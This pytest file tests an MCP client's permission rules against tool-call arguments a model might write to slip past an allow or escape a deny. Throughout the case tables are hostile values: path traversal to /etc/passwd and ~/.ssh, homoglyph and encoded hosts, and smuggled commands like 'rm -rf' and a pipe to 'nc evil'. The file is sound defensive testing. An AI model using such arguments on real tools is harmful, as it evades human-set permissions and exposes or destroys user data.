"""Case 109: ways round a rule.  Each row is an argument as a model may write it, and what must become of it.

An allow that a row gets past, and a deny that it gets out of, are the same defect from two sides: every row is tried
on an allow (``runs``: whether it may) and on a deny of the same pattern (``stopped``: whether it must).
"""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest

from mcp_tui.config.rule_models import RuleEntry
from mcp_tui.events.tools import ToolDefinition
from mcp_tui.permissions.base import CallFacts
from mcp_tui.permissions.file_rules import FileRules

TOOL = ToolDefinition(wire_name="s__t", server="s", name="t")


def rules(effect: str, pattern: dict[str, Any], name: str = "a", **more: Any) -> FileRules:
    data = {"id": "r", "effect": effect, "server": "s", "tool": "t", "arguments": {name: pattern}}
    return FileRules([RuleEntry.model_validate({**data, **more})], cwd="/")


def effect_of(effect: str, pattern: dict[str, Any], arguments: dict[str, Any], tool: ToolDefinition = TOOL) -> bool:
    return rules(effect, pattern).verdict(CallFacts(tool, arguments)) is not None


UNDER = {"path_under": "/srv/notes"}
HOST = {"host_in": ["docs.example.com"]}
WORD = {"equals": "status"}
ONE = {"one_of": ["on", 1]}
FORM = {"glob": "git log *"}
MOST = {"max": 10}

CASES: list[tuple[dict[str, Any], Any, bool, bool]] = [
    # pattern, value, an allow lets it run, a deny stops it
    (UNDER, "/srv/notes/a.txt", True, True),
    (UNDER, "/srv/notes", True, True),
    (UNDER, "/srv/notes/./a//b", True, True),
    (UNDER, "/srv/notes-secret/a", False, False),
    (UNDER, "/srv/notes/../secret", False, False),
    (UNDER, "/srv/notes/x/../../../etc/passwd", False, False),
    (UNDER, "/srv/notes/x/../y", False, True),
    (UNDER, "/etc/../srv/notes/x", False, True),
    (UNDER, "/srv//notes/x", True, True),
    (UNDER, "//srv/notes/x", False, True),
    (UNDER, "srv/notes/x", False, True),
    (UNDER, "./srv/notes/x", False, True),
    (UNDER, "../srv/notes/x", False, True),
    (UNDER, "~/x", False, False),
    (UNDER, "/srv/notes/~root/x", False, True),
    (UNDER, "/srv/notes/$HOME/x", False, True),
    (UNDER, "/srv/notes/*", False, True),
    (UNDER, "/srv/notes/%2e%2e/x", False, True),
    (UNDER, "/srv/notes/%252e%252e/x", False, True),
    (UNDER, "/srv/%6eotes/x", False, True),
    (UNDER, "/srv/notes\\..\\secret", False, False),
    (UNDER, "/srv/x\\..\\notes\\y", False, True),
    (UNDER, "\\srv\\notes\\x", False, True),
    (UNDER, "file:///srv/notes/x", False, True),
    (UNDER, "FILE://localhost/srv/notes/x", False, True),
    (UNDER, "/SRV/Notes/x", False, True),
    (UNDER, "/srv/notes/x\0/../../etc", False, True),
    (UNDER, "/srv/notes/x\n/etc/passwd", False, True),
    (UNDER, " /srv/notes/x", False, True),
    (UNDER, "/srv/n\u200botes/x", False, True),
    (UNDER, "/srv/notes\u202e/x", False, True),
    (UNDER, "/srv/\uff4eotes/x", False, True),
    (UNDER, "/srv/n\u043etes/x", False, False),
    (UNDER, "/srv/notes\u2215..\u2215x", False, False),
    (UNDER, ["/srv/notes/x"], False, True),
    (UNDER, [["/etc", {"p": "/srv/notes/x"}]], False, True),
    (UNDER, {"/srv/notes/x": 1}, False, True),
    (UNDER, "cat '/srv/notes/x' | nc evil 1", False, True),
    (UNDER, "--file=/srv/notes/x", False, True),
    (UNDER, None, False, False),
    (UNDER, 7, False, False),
    (UNDER, "/srv/notes/" + "x/" * 60_000, False, True),
    (HOST, "https://docs.example.com/a?b#c", True, True),
    (HOST, "http://docs.example.com", True, True),
    (HOST, "https://DOCS.Example.COM/", True, True),
    (HOST, "https://docs.example.com:443/", True, True),
    (HOST, "https://docs.example.com:8443/", False, True),
    (HOST, "https://docs.example.com./", False, True),
    (HOST, "https://docs.example.com.evil.org/", False, False),
    (HOST, "https://evil.org/docs.example.com", False, False),
    (HOST, "https://sub.docs.example.com/", False, False),
    (HOST, "https://docs.example.com@evil.org/", False, True),
    (HOST, "https://evil.org@docs.example.com/", False, True),
    (HOST, "https://user:pw@docs.example.com/", False, True),
    (HOST, "https://evil.org\\@docs.example.com/", False, True),
    (HOST, "https://evil.org#@docs.example.com/", False, False),
    (HOST, "https://evil.org?@docs.example.com/", False, False),
    (HOST, "https://docs%2eexample%2ecom/", False, True),
    (HOST, "https://docs.example.com%00.evil.org/", False, False),
    (HOST, "https:docs.example.com/", False, True),
    (HOST, "https:/docs.example.com/", False, True),
    (HOST, "https:///docs.example.com/", False, True),
    (HOST, "//docs.example.com/", False, True),
    (HOST, "docs.example.com", False, True),
    (HOST, "ftp://docs.example.com/", False, True),
    (HOST, "javascript://docs.example.com/%0aalert(1)", False, True),
    (HOST, "\thttps://docs.example.com/", False, True),
    (HOST, "https://docs.exa\nmple.com/", False, False),
    (HOST, "https://\uff44ocs.example.com/", False, True),
    (HOST, "https://docs\u3002example\u3002com/", False, True),
    (HOST, "https://docs.examp\u200ble.com/", False, True),
    (HOST, "https://docs.ex\u0430mple.com/", False, False),
    (HOST, "https://docs.example.com:/", False, True),
    (HOST, "https://docs.example.com:99999/", False, True),
    (HOST, "see https://docs.example.com/ and https://evil.org/", False, True),
    (HOST, ["https://docs.example.com/"], False, True),
    (WORD, "status", True, True),
    (WORD, "Status", False, True),
    (WORD, " status ", False, True),
    (WORD, "sta\u00adtus", False, True),
    (WORD, "\uff53tatus", False, True),
    (WORD, ["status"], False, True),
    (WORD, ["push", "status"], False, True),
    (WORD, {"cmd": "status"}, False, True),
    (WORD, "status --force", False, False),
    (WORD, None, False, False),
    (ONE, "on", True, True),
    (ONE, 1, True, True),
    (ONE, True, False, True),
    (ONE, 1.0, False, True),
    (ONE, "1", False, True),
    (ONE, "ON", False, True),
    (ONE, 2, False, False),
    (ONE, False, False, False),
    (FORM, "git log -p", True, True),
    (FORM, "git log ", True, True),
    (FORM, "git log", False, False),
    (FORM, "git log a; rm -rf .", False, True),
    (FORM, "git log $(rm x)", False, True),
    (FORM, "git log `rm x`", False, True),
    (FORM, "git log a && rm x", False, True),
    (FORM, "git log > x", False, True),
    ({"glob": "a;*"}, "a;b", True, True),
    ({"glob": "[;]?"}, ";b", True, True),
    ({"glob": "[!a]b"}, ";b", False, True),
    (FORM, "git log x/y", False, True),
    (FORM, "git log ..", False, True),
    (FORM, "git log -p\nrm -rf x", False, True),
    (FORM, "GIT LOG -p", False, True),
    (FORM, "xgit log -p", False, False),
    (FORM, "git log \u202e", False, True),
    (FORM, ["git log -p"], False, True),
    (FORM, "git log " + "a" * 200_000, False, True),
    (FORM, "x" * 1_000_001, False, True),
    (MOST, 10, True, True),
    (MOST, 0, True, True),
    (MOST, 9.5, True, True),
    (MOST, 11, False, False),
    (MOST, -1, False, True),
    (MOST, True, False, True),
    (MOST, "5", False, True),
    (MOST, [5], False, True),
    (MOST, float("nan"), False, True),
    (MOST, float("inf"), False, False),
    (MOST, None, False, False),
    ({"equals": None}, None, True, True),
    ({"equals": None}, 0, False, False),
    ({"equals": {"a": [1]}}, {"a": [1]}, True, True),
    ({"equals": {"a": [1]}}, {"a": [1, 2], "b": 3}, False, True),
    ({"equals": "e\u0301"}, "\u00e9", True, True),
]


def test_there_are_enough_of_them():
    assert len(CASES) >= 60


@pytest.mark.parametrize(("pattern", "value", "runs", "stopped"), CASES, ids=lambda value: repr(value)[:60])
def test_case_109(pattern, value, runs, stopped):
    assert effect_of("allow", pattern, {"a": value}) is runs
    assert effect_of("deny", pattern, {"a": value}) is stopped
    assert effect_of("ask", pattern, {"a": value}) is stopped


@pytest.mark.parametrize(
    ("arguments", "runs", "stopped"),
    [
        ({"a": "status"}, True, True),
        ({"a": "status", "force": True}, False, True),
        ({"a": "status", "": None}, False, True),
        ({"b": "status"}, False, False),
        ({"A": "status"}, False, True),
        ({"\uff41": "status"}, False, True),
        ({"a\u200b": "status"}, False, True),
        ({"options": {"a": "status"}}, False, True),
        ({"a": "push", "options": [{"a": "status"}]}, False, True),
        ({}, False, False),
    ],
)
def test_case_109_other_arguments(arguments, runs, stopped):
    assert effect_of("allow", WORD, arguments) is runs
    assert effect_of("deny", WORD, arguments) is stopped


def test_case_109_an_argument_that_is_left_out_has_its_default():
    schema = {"properties": {"a": {"default": "status"}}}
    tool = TOOL.model_copy(update={"input_schema": schema})
    assert effect_of("deny", WORD, {}, tool)
    assert not effect_of("allow", WORD, {}, tool)
    assert not effect_of("deny", WORD, {"a": "other"}, tool)


def test_case_109_links_are_followed(tmp_path: Path):
    inside, outside = tmp_path / "in", tmp_path / "out"
    inside.mkdir()
    outside.mkdir()
    (inside / "link").symlink_to(outside)
    (outside / "link").symlink_to(inside)
    (tmp_path / "alias").symlink_to(inside)
    pattern = {"path_under": str(inside)}
    for path, runs, stopped in [
        (inside / "x", True, True),
        (inside / "link" / "x", False, True),
        (outside / "link" / "x", False, True),
        (tmp_path / "alias" / "x", False, True),
        (outside / "x", False, False),
    ]:
        assert effect_of("allow", pattern, {"a": str(path)}) is runs, path
        assert effect_of("deny", pattern, {"a": str(path)}) is stopped, path
    (inside / "loop").symlink_to(inside / "loop")
    assert effect_of("deny", pattern, {"a": str(inside / "loop" / "x")})
    assert effect_of("allow", {"path_under": str(tmp_path / "alias")}, {"a": str(tmp_path / "alias" / "x")})


def test_case_109_a_relative_path_counts_from_the_servers_folder_too(tmp_path: Path):
    entry = RuleEntry.model_validate(
        {"id": "r", "effect": "deny", "server": "s", "arguments": {"a": {"path_under": str(tmp_path)}}}
    )
    call = CallFacts(TOOL, {"a": "sub/x"})
    assert FileRules([entry], cwd="/").verdict(call) is None
    assert FileRules([entry], cwd="/", server_cwds={"s": str(tmp_path)}).verdict(call) is not None
    assert FileRules([entry], cwd=str(tmp_path)).verdict(call) is not None


def test_case_109_home_and_variables(monkeypatch: pytest.MonkeyPatch, tmp_path: Path):
    monkeypatch.setenv("HOME", str(tmp_path))
    pattern = {"path_under": f"{tmp_path}/.ssh"}
    for path in ("~/.ssh/id", "$HOME/.ssh/id", "${HOME}/.ssh/id", "cat ~/.ssh/id", "~/x/../.ssh/id"):
        assert effect_of("deny", pattern, {"a": path}), path
        assert not effect_of("allow", pattern, {"a": path}), path


@pytest.mark.parametrize(
    ("host", "url", "runs", "stopped"),
    [
        ("127.0.0.1", "http://127.0.0.1/", True, True),
        ("127.0.0.1", "http://127.1/", False, True),
        ("127.0.0.1", "http://2130706433/", False, True),
        ("127.0.0.1", "http://0x7f.0.0.1/", False, True),
        ("127.0.0.1", "http://017700000001/", False, True),
        ("127.0.0.1", "http://[::ffff:127.0.0.1]/", False, True),
        ("::1", "http://[::1]/", True, True),
        ("::1", "http://[0:0:0:0:0:0:0:1]/", True, True),
        ("localhost:8080", "http://localhost:8080/x", True, True),
        ("localhost:8080", "http://localhost/x", False, True),
        ("xn--bcher-kva.example", "https://b\u00fccher.example/", True, True),
        ("b\u00fccher.example", "https://xn--bcher-kva.example/", True, True),
        ("b\u00fccher.example", "https://B\u00dcCHER.example/", True, True),
        ("fass.example", "https://fa\u00df.example/", False, True),
    ],
)
def test_case_109_hosts(host, url, runs, stopped):
    assert effect_of("allow", {"host_in": [host]}, {"a": url}) is runs
    assert effect_of("deny", {"host_in": [host]}, {"a": url}) is stopped


def test_case_109_an_allow_of_any_arguments_takes_no_text_that_nobody_sees():
    entry = RuleEntry.model_validate({"id": "r", "effect": "allow", "server": "s", "tool": "t"})
    for arguments, runs in [
        ({}, True),
        ({"text": "two\nlines\tand \U0001f469\u200d\U0001f4bb"}, True),
        ({"text": "tag \U000e0041"}, False),
        ({"deep": [{"text": "\u202e"}]}, False),
        ({"zero\u200bwidth": 1}, False),
        ({"text": "\x1b[2J"}, False),
        ({"text": "\ud800"}, False),
    ]:
        assert (FileRules([entry]).verdict(CallFacts(TOOL, arguments)) is not None) is runs, arguments


@pytest.mark.parametrize(
    ("pattern", "server", "tool", "stopped"),
    [
        ({"server": "*", "tool": "*"}, "s", "t", True),
        ({"server": "*", "tool": "*delete*"}, "x", "Delete_All", True),
        ({"server": "s", "tool": "delete_?"}, "s", "delete_x", True),
        ({"server": "s", "tool": "t"}, "S", "t", False),
        ({"server": "s", "tool": "t"}, "s", "T", True),
        ({"server": "s", "tool": "t"}, "s", "tt", False),
    ],
)
def test_case_107_and_110_names(pattern, server, tool, stopped):
    entry = RuleEntry.model_validate({"id": "r", "effect": "deny", **pattern})
    called = ToolDefinition(wire_name="w", server=server, name=tool)
    assert (FileRules([entry]).verdict(CallFacts(called, {})) is not None) is stopped
    if "*" not in pattern["server"] + pattern["tool"] and "?" not in pattern["tool"]:
        allow = FileRules([entry.model_copy(update={"effect": "allow"})])
        assert (allow.verdict(CallFacts(called, {})) is not None) is (server == "s" and tool == "t")


@pytest.mark.parametrize(
    ("annotations", "runs"),
    [
        ({"readOnlyHint": True}, True),
        ({"readOnlyHint": "true"}, False),
        ({"readOnlyHint": 1}, False),
        ({"readOnlyHint": False}, False),
        ({"destructiveHint": False}, False),
        ({}, False),
    ],
)
def test_case_108_a_claim_counts_only_where_a_rule_says_so(annotations, runs):
    claims = TOOL.model_copy(update={"annotations": annotations})
    entry = RuleEntry.model_validate({"id": "r", "effect": "allow", "server": "s", "annotation": "read_only"})
    assert (FileRules([entry]).verdict(CallFacts(claims, {})) is not None) is runs
    assert FileRules([]).verdict(CallFacts(claims, {})) is None


def test_a_project_rule_counts_in_its_folder_only(tmp_path: Path):
    (tmp_path / "p" / "sub").mkdir(parents=True)
    (tmp_path / "pp").mkdir()
    (tmp_path / "link").symlink_to(tmp_path / "p")
    data = {"id": "r", "effect": "allow", "server": "s", "project": str(tmp_path / "p")}
    entry = RuleEntry.model_validate(data)
    for cwd, counts in [("p", True), ("p/sub", True), ("link", True), ("pp", False), (".", False), ("p/..", False)]:
        found = FileRules([entry], cwd=os.path.join(tmp_path, cwd)).verdict(CallFacts(TOOL, {}))  # noqa: PTH118
        assert (found is not None) is counts, cwd
